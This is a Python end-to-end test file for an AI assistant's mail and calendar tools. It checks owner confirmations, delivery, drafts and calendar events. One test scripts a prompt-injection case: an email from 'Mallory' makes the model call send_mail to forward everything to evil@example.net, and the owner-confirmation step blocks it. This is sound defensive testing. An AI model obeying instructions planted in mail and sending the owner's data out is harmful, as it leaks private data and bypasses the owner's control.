"""The owner's mail and calendar through the real server path: `POST /v1/chat` of `iriis serve`
with the scripted model calling the `mail` and `calendar` servers, which talk to a real Dovecot
(with an SMTP server delivering into it) and a real Radicale (tests/accounts.py). What is
checked is what the owner would see: the question before a send, the mail in the recipient's
inbox or not, the file an attachment became, the event in a plain CalDAV client's view."""

from __future__ import annotations

import itertools
from datetime import UTC, datetime, timedelta
from email import policy
from email.parser import BytesParser

import httpx
import pytest

from tests import scripted_openai as so
from tests.accounts import OwnerAccounts
from tests.calendar_servers import at
from tests.conftest import OWNER_KEY
from tests.mail_servers import PDF
from tests.sse import LiveChat, chat

pytestmark = pytest.mark.e2e
_n = itertools.count(1)


def _statuses(events, name: str) -> list[str]:
    return [d["status"] for e, d in events if e == "tool" and d["name"] == name]


def _tool(events, name: str, status: str) -> dict:
    return next(d for e, d in events if e == "tool" and d["name"] == name and d["status"] == status)


def _recipient(accounts: OwnerAccounts) -> str:
    """A mailbox of its own on the test Dovecot for each test that sends."""
    name = f"friend{next(_n)}"
    return accounts.dovecot.add_user(name, f"{name}-pass")


def _inbox_subjects(accounts: OwnerAccounts, address: str) -> list[str]:
    client = accounts.dovecot.login(address)
    try:
        client.select_folder("INBOX", readonly=True)
        data = client.fetch(client.search(), ["BODY.PEEK[HEADER.FIELDS (SUBJECT)]"])
        parse = BytesParser(policy=policy.default).parsebytes
        return [str(parse(item[b"BODY[HEADER.FIELDS (SUBJECT)]"])["subject"]) for item in data.values()]
    finally:
        client.logout()


def _audit(client: httpx.Client, tool: str) -> dict:
    return next(a for a in client.get("/v1/audit").json()["data"] if a["tool"] == tool)


def test_the_mail_and_calendar_servers_are_connected(client) -> None:
    servers = {s["name"]: s for s in client.get("/v1/tools").json()["data"]}
    assert servers["mail"]["state"] == "on" and servers["mail"]["tools"] == 7
    assert servers["calendar"]["state"] == "on" and servers["calendar"]["tools"] == 7


def test_reading_a_mail_names_its_sender_and_its_attachments_become_files(client, model, accounts) -> None:
    model.enqueue(so.tools(("read_mail", {"uid": accounts.uids["budget"]})), so.text("Bob sent the budget."))
    events = chat(client, OWNER_KEY, "What did Bob write about the budget? Check my mail.")
    assert "read_mail" in {t["function"]["name"] for t in model.requests[0]["body"]["tools"]}  # routed
    done = _tool(events, "read_mail", "done")
    assert len(done["files"]) == 2 and "budget.pdf" in done["result"]
    pdf = client.get(f"/v1/files/{done['files'][0]}")
    assert pdf.status_code == 200 and pdf.content == PDF
    assert all(f"[file:{f}]" in events[-1][1]["text"] for f in done["files"])
    # The mail reached the model wrapped as outside content, its sender's `<` escaped.
    result = model.requests[1]["body"]["messages"][-1]["content"]
    assert result.startswith('<tool_output untrusted="true" from="mail.read_mail">')
    assert "Bob Stone &lt;bob@example.test>" in result and "Budget attached" in result


def test_sending_asks_the_owner_with_a_read_back_and_delivers_after_yes(server, client, model, accounts) -> None:
    friend = _recipient(accounts)
    subject = "Lisbon in March"
    model.enqueue(so.tools(("send_mail", {"to": friend, "subject": subject, "body": "Yes, count me in!"})),
                  so.text("Sent."))
    turn = LiveChat(server.url, OWNER_KEY, {"message": f"Mail {friend} that I'm in for Lisbon in March"})
    ask = turn.wait_for("confirm")
    assert ask["tool"] == "send_mail"
    assert ask["question"] == f"Send mail to {friend} — subject 'Lisbon in March' — 'Yes, count me in!'?"
    assert _inbox_subjects(accounts, friend) == []   # nothing went before the yes
    client.post(f"/v1/confirmations/{ask['id']}", json={"approve": True})
    events = turn.join()
    assert _statuses(events, "send_mail") == ["start", "done"]
    assert _inbox_subjects(accounts, friend) == [subject]
    audit = _audit(client, "send_mail")
    assert audit["confirmed"] is True and audit["tainted"] is False


def test_unattended_a_send_is_declined_and_nothing_is_delivered(client, model, accounts) -> None:
    friend = _recipient(accounts)
    model.enqueue(so.tools(("send_mail", {"to": friend, "subject": "Unattended", "body": "Hello"})),
                  so.text("I could not send it from here."))
    events = chat(client, OWNER_KEY, f"Mail {friend} hello", confirmations=False)
    assert not [e for e, _ in events if e == "confirm"]
    assert _statuses(events, "send_mail") == ["start", "declined"]
    assert _inbox_subjects(accounts, friend) == []
    assert _audit(client, "send_mail")["confirmed"] is False


def test_an_instruction_inside_a_mail_cannot_send_mail(server, client, model, accounts) -> None:
    """Mallory's mail tells the assistant to forward everything; the model obeys and calls
    send_mail. The owner is asked, told the turn read Mallory's mail, says no: nothing leaves."""
    sent_before = len(accounts.sink.received)
    model.enqueue(so.tools(("read_mail", {"uid": accounts.uids["evil"]})),
                  so.tools(("send_mail", {"to": "evil@example.net", "subject": "Fwd: all", "body": "everything"})),
                  so.text("I did not forward anything."))
    turn = LiveChat(server.url, OWNER_KEY, {"message": "Read the urgent account notice in my inbox"})
    ask = turn.wait_for("confirm")
    assert ask["tool"] == "send_mail" and ask["sources"] == ["mail:mallory@evil.example"]
    assert "mail from mallory@evil.example" in ask["reason"]
    client.post(f"/v1/confirmations/{ask['id']}", json={"approve": False})
    events = turn.join()
    assert _statuses(events, "send_mail") == ["start", "declined"]
    assert len(accounts.sink.received) == sent_before
    audit = _audit(client, "send_mail")
    assert audit["tainted"] is True and audit["sources"] == ["mail:mallory@evil.example"]
    assert audit["confirmed"] is False and audit["result"] is None


def test_an_unattended_triage_may_draft_a_reply_after_reading_mail(client, model, accounts) -> None:
    """Reading mail taints the turn, yet a draft only waits in the owner's Drafts: it is allowed
    with nobody to ask, and sending is not."""
    model.enqueue(so.tools(("read_mail", {"uid": accounts.uids["trip"]})),
                  so.tools(("draft_mail", {"to": "ana@example.test", "subject": "Re: Trip to Lisbon",
                                           "body": "Sounds good, let's look at flights.",
                                           "reply_to_uid": accounts.uids["trip"]})),
                  so.text("I drafted a reply to Ana."))
    events = chat(client, OWNER_KEY, "Triage my inbox and draft replies", confirmations=False)
    assert _statuses(events, "draft_mail") == ["start", "done"]
    drafts = accounts.dovecot.login(accounts.address)
    try:
        drafts.select_folder("Drafts", readonly=True)
        flags = drafts.fetch(drafts.search(["SUBJECT", "Re: Trip to Lisbon"]), ["FLAGS"])
    finally:
        drafts.logout()
    assert flags and all(b"\\Draft" in item[b"FLAGS"] for item in flags.values())


def test_an_event_made_in_chat_is_in_the_calendar_a_plain_client_sees(client, model, accounts) -> None:
    model.enqueue(so.tools(("create_event", {"title": "Dentist (chat)", "start": "tomorrow at 9",
                                             "duration_minutes": 30})),
                  so.text("Booked in your calendar."))
    events = chat(client, OWNER_KEY, "Put the dentist in my calendar tomorrow at 9 for half an hour")
    assert _statuses(events, "create_event") == ["start", "done"]
    # The server runs in UTC (no IRIIS_TIMEZONE): 09:00 UTC tomorrow, 30 minutes.
    tomorrow = datetime.now(UTC).date() + timedelta(days=1)
    found = accounts.radicale.calendar().search(start=at(tomorrow, 0) - timedelta(days=1),
                                                end=at(tomorrow, 0) + timedelta(days=2), event=True, expand=False)
    mine = [c for obj in found for c in obj.get_icalendar_instance().walk("VEVENT")
            if str(c.get("summary")) == "Dentist (chat)"]
    assert len(mine) == 1
    start, end = mine[0].decoded("dtstart"), mine[0].decoded("dtend")
    assert start.astimezone(UTC) == datetime(tomorrow.year, tomorrow.month, tomorrow.day, 9, tzinfo=UTC)
    assert end - start == timedelta(minutes=30)


def test_a_mail_server_that_is_away_is_a_clear_tool_error_and_the_turn_still_ends(client, model, accounts) -> None:
    accounts.dovecot.stop()
    try:
        model.enqueue(so.tools(("list_mail", {"unread": True})), so.text("I can't reach your mail right now."))
        events = chat(client, OWNER_KEY, "Any unread mail?")
    finally:
        accounts.dovecot.start()
    failed = _tool(events, "list_mail", "error")
    assert "could not reach the mail server" in failed["result"]
    assert events[-1][0] == "done" and "can't reach your mail" in events[-1][1]["text"]
    # Back again, the next turn reads the inbox.
    model.enqueue(so.tools(("list_mail", {})), so.text("Here is your inbox."))
    events = chat(client, OWNER_KEY, "What is in my inbox now?")
    assert "Trip to Lisbon" in _tool(events, "list_mail", "done")["result"]
